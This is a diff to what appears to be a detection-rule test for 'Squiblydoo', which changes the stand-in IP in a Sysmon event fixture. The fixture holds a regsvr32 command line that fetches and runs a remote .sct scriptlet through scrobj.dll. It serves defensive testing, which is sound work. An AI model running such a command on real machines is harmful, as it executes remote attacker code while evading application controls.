@@ -23,13 +23,13 @@ test_fires_squiblydoo if {
 			"channel": "Microsoft-Windows-Sysmon/Operational",
 			"event_data": {
 				"Image": "C:\\Windows\\System32\\regsvr32.exe",
-				"CommandLine": "regsvr32 /s /n /u /i:http://203.0.113.66/a.sct scrobj.dll"
+				"CommandLine": "regsvr32 /s /n /u /i:http://192.0.2.66/a.sct scrobj.dll"
 			}
 		},
 		"process": {
 			"name": "regsvr32.exe",
 			"executable": "C:\\Windows\\System32\\regsvr32.exe",
-			"command_line": "regsvr32 /s /n /u /i:http://203.0.113.66/a.sct scrobj.dll"
+			"command_line": "regsvr32 /s /n /u /i:http://192.0.2.66/a.sct scrobj.dll"
 		}
 	}
 }
